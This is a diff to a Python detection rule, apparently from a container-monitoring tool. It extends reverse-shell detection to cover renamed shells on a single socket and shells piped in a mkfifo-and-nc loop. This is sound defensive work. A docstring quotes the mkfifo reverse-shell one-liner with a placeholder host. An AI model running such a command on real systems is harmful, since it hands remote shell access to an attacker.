@@ -4,7 +4,9 @@ from __future__ import annotations
 
 from collections.abc import Sequence
 
+from trainguard.api.sample import Connection, ProcessInfo, Sample, SensorErrorKind, StdStream
 from trainguard.detection import tools
+from trainguard.detection.endpoints import is_loopback
 from trainguard.detection.rules.base import NOTHING, Rule, RuleInput, connection_evidence, process_evidence
 from trainguard.detection.violation import EvidenceValue, Finding
 
@@ -58,24 +60,82 @@ def process_unexpected(inp: RuleInput) -> Sequence[Finding]:
     return found or NOTHING
 
 
+def _socket_lists_complete(s: Sample) -> bool:
+    """Whether the sample lists every network socket of the pod: not when the sensor hit its socket cap
+    (a workload can open sockets past it to push one out) or read no sockets at all."""
+    return s.sensor.reader != "none" and not any(e.kind is SensorErrorKind.CONNECTION_CAP for e in s.sensor.errors)
+
+
+def _piped(st: StdStream | None) -> bool:
+    """A stream a shell can be piped through: a pipe, or a FIFO opened by its path (a `file` to the
+    sensor; device files such as /dev/null, which everything shares, are not)."""
+    return st is not None and (st.kind == "pipe" or (st.kind == "file" and not st.target.startswith("/dev/")))
+
+
+def _relay(s: Sample, p: ProcessInfo) -> Connection | None:
+    """The network connection a shell talks through when its output is the input of a process on the
+    network whose output comes back as the shell's input, directly or through one more process (the
+    mkfifo reverse shell: `cat f | sh -i 2>&1 | nc HOST PORT > f`). Matched on the standard streams'
+    link texts (`pipe:[N]`, a FIFO's path); None when the shell is in no such loop."""
+    readers: dict[str, list[ProcessInfo]] = {}
+    for q in s.processes:
+        if q.stdin is not None and _piped(q.stdin) and q.pid != p.pid:
+            readers.setdefault(q.stdin.target, []).append(q)
+    conns = {c.pid: c for c in s.connections if c.pid is not None and not is_loopback(c.remote.address)}
+    stdin, stdout = p.stdin.target if p.stdin else "", p.stdout.target if p.stdout else ""
+    for relay in readers.get(stdout, ()):
+        c = conns.get(relay.pid)
+        if c is None or relay.stdout is None or not _piped(relay.stdout) or relay.stdout.target == stdout:
+            continue
+        back = relay.stdout.target
+        # One hop back: a process reading `back` on its stdin, or given it as an argument (`cat f`).
+        hops = [*readers.get(back, ()), *(q for q in s.processes if back in q.argv[1:])]
+        if back == stdin or any(h.stdout is not None and h.stdout.target == stdin for h in hops):
+            return c
+    return None
+
+
 def process_reverse_shell(inp: RuleInput) -> Sequence[Finding]:
     """A shell or interpreter whose standard input or output is a network socket: a reverse shell,
-    whatever the destination (Falco's "Redirect STDOUT/STDIN to Network Connection in Container").
-    The socket is a network one when its inode is one of the pod's sockets with a peer or without,
-    or when the sensor could not give its inode (what cannot be told apart is not excused)."""
+    whatever the destination (Falco's "Redirect STDOUT/STDIN to Network Connection in Container");
+    and, whatever it is called (a shell copied to another file name), a process whose standard input
+    and output are one and the same network socket; and a shell or interpreter piped in a loop through a
+    process on the network (`_relay`: mkfifo + nc). The socket is a network one when its inode is
+    one of the pod's sockets with a peer or without, or when the sensor could not give its inode, or
+    when the sample's socket lists are incomplete (what cannot be told apart is not excused)."""
     s = inp.sample
     found: list[Finding] = []
+    complete: bool | None = None
+    by_inode: dict[int, Connection] = {}
+    unconnected: set[int] = set()
     for p in s.processes:
         streams = [(fd, st) for fd, st in (("stdin", p.stdin), ("stdout", p.stdout)) if st and st.kind == "socket"]
         if not streams:
+            # Cheap tests first (most processes read /dev/null): stdin piped, stdout a pipe, not one and the same.
+            if (
+                p.stdin is not None
+                and p.stdout is not None
+                and p.stdout.kind == "pipe"
+                and _piped(p.stdin)
+                and p.stdin.target != p.stdout.target
+                and (what := tools.shell_or_interpreter(p))
+            ):
+                relayed = _relay(s, p)
+                if relayed is not None:
+                    via = connection_evidence(s, relayed, interpreter=what, relay=relayed.pid)
+                    found.append(Finding(PROCESS_REVERSE_SHELL, f"pid {p.pid}", {**via, **process_evidence(p)}))
             continue
         what = tools.shell_or_interpreter(p)
         if what is None:
-            continue
-        by_inode = {c.inode: c for c in s.connections if c.inode}
-        unconnected = {u.inode for u in s.unconnected if u.inode}
+            if len(streams) < 2 or streams[0][1].inode != streams[1][1].inode:
+                continue
+            what = "(stdin and stdout on one socket)"
+        if complete is None:
+            complete = _socket_lists_complete(s)
+            by_inode = {c.inode: c for c in s.connections if c.inode}
+            unconnected = {u.inode for u in s.unconnected if u.inode}
         for fd, st in streams:
-            if st.inode is not None and st.inode not in by_inode and st.inode not in unconnected:
+            if complete and st.inode is not None and st.inode not in by_inode and st.inode not in unconnected:
                 continue  # a socket the pod has no network socket for: a unix socket
             c = by_inode.get(st.inode) if st.inode is not None else None
             evidence = (
